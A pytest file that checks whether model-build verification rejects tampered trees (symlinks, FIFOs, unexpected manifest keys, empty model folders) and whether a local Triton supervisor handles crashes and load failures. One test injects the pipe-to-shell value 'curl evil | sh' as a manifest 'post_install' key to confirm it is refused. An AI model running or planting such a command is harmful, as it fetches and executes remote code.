"""Builds that lie and servers that die: verification refuses what it cannot vouch for, serve_local supervises the real Triton."""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from gpu_inference_platform.components.model_manifest import Manifest, ManifestError, load_manifest, verify, write_manifest
from gpu_inference_platform.ops.serving.local_triton import free_port
from tests.conftest import ROOT

CPU_BUILD = ROOT / "build" / "models" / "cpu"


@pytest.fixture
def build_copy(tmp_path: Path) -> Path:
    copy = tmp_path / "models"
    shutil.copytree(CPU_BUILD, copy)
    return copy


def _rewrite_manifest(root: Path) -> Manifest:
    """What an attacker with write access does: re-hash the tampered tree so the manifest agrees with it."""
    old = load_manifest(root)
    return write_manifest(root, target=old.target, tools=old.tools, source=old.source, onnx_opset=old.onnx_opset, engines=old.engines)


def _verify_cli(root: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "scripts.build_models", "verify", str(root)], cwd=ROOT, capture_output=True, text=True, check=False)


def test_a_symlinked_model_folder_is_refused_even_with_a_matching_manifest(build_copy: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    shutil.move(build_copy / "minilm_tokenizer", outside)
    (build_copy / "minilm_tokenizer").symlink_to(outside, target_is_directory=True)
    _rewrite_manifest(build_copy)
    result = verify(build_copy)
    assert result.unsafe == ["minilm_tokenizer (symlink)"] and not result.ok
    cli = _verify_cli(build_copy)
    assert cli.returncode == 1 and "unsafe: minilm_tokenizer (symlink)" in cli.stdout and "Traceback" not in cli.stderr


def test_a_fifo_is_refused(build_copy: Path) -> None:
    os.mkfifo(build_copy / "minilm_encoder" / "1" / "pipe")
    assert verify(build_copy).unsafe == ["minilm_encoder/1/pipe (not a regular file)"]


def test_an_unexpected_manifest_key_is_a_clear_error(build_copy: Path) -> None:
    document = json.loads((build_copy / "manifest.json").read_text())
    document["post_install"] = "curl evil | sh"
    (build_copy / "manifest.json").write_text(json.dumps(document))
    with pytest.raises(ManifestError, match=r"unexpected keys \['post_install'\], missing keys \[\]"):
        verify(build_copy)
    cli = _verify_cli(build_copy)
    assert cli.returncode == 1 and "Traceback" not in cli.stdout + cli.stderr and "REJECTED" in cli.stdout


def _serve(repo: Path, log: Path) -> subprocess.Popen[str]:
    ports = [str(free_port()) for _ in range(3)]
    command = [sys.executable, "-m", "scripts.serve_local", "--repo", str(repo), "--log", str(log)]
    command += ["--http-port", ports[0], "--grpc-port", ports[1], "--metrics-port", ports[2]]
    return subprocess.Popen(command, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


def _session_members(session: int) -> list[int]:
    members = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
            except OSError:
                continue
            if int(fields[3]) == session and fields[0] != "Z":  # after the comm: state, ppid, pgrp, session; zombies are dead
                members.append(int(entry.name))
    return members


def test_serve_local_reports_a_killed_triton_and_leaves_no_orphans(tmp_path: Path) -> None:
    log = tmp_path / "triton.log"
    serving = _serve(CPU_BUILD, log)
    assert serving.stdout is not None and "Triton ready" in serving.stdout.readline()
    children = subprocess.run(["pgrep", "-P", str(serving.pid), "tritonserver"], capture_output=True, text=True, check=True).stdout
    (triton,) = [int(p) for p in children.split()]
    assert len(_session_members(triton)) >= 3, "tritonserver and its Python-backend stubs share its own session"
    os.kill(triton, signal.SIGKILL)
    started = time.monotonic()
    code = serving.wait(timeout=30)
    stderr = serving.stderr.read() if serving.stderr else ""
    assert (code, time.monotonic() - started < 10) == (128 + signal.SIGKILL, True)
    assert "tritonserver exited on its own with -9" in stderr and str(log) in stderr
    assert _session_members(triton) == [], "no live stub outlives the server (in this sandbox PID 1 leaves the dead ones as zombies)"


def test_serve_local_fails_fast_when_a_model_cannot_load_and_keeps_the_log(build_copy: Path, tmp_path: Path) -> None:
    model = build_copy / "minilm_tokenizer" / "1" / "model.py"
    model.write_text(
        model.read_text().replace("    def initialize(self, args):\n", "    def initialize(self, args):\n        raise RuntimeError('poisoned build')\n")
    )
    _rewrite_manifest(build_copy)
    log = tmp_path / "triton.log"
    started = time.monotonic()
    serving = _serve(build_copy, log)
    code = serving.wait(timeout=120)
    stderr = serving.stderr.read() if serving.stderr else ""
    assert (code, time.monotonic() - started < 60) == (1, True)
    assert "poisoned build" in stderr and f"log kept at {log}" in stderr, stderr
    assert "poisoned build" in log.read_text()


def test_an_empty_version_folder_is_refused_before_triton_starts(build_copy: Path, tmp_path: Path) -> None:
    """Triton would wait forever on a model whose stub cannot start: verification names it first (here and in the pod's init step)."""
    for path in (build_copy / "minilm_encoder" / "1").iterdir():
        path.unlink()
    _rewrite_manifest(build_copy)
    assert verify(build_copy).incomplete == ["minilm_encoder/1: no model.py (the python backend loads it)"]
    started = time.monotonic()
    serving = _serve(build_copy, tmp_path / "triton.log")
    code = serving.wait(timeout=60)
    stderr = serving.stderr.read() if serving.stderr else ""
    assert (code, time.monotonic() - started < 30) == (1, True), stderr
    assert "incomplete: minilm_encoder/1: no model.py (the python backend loads it)" in stderr
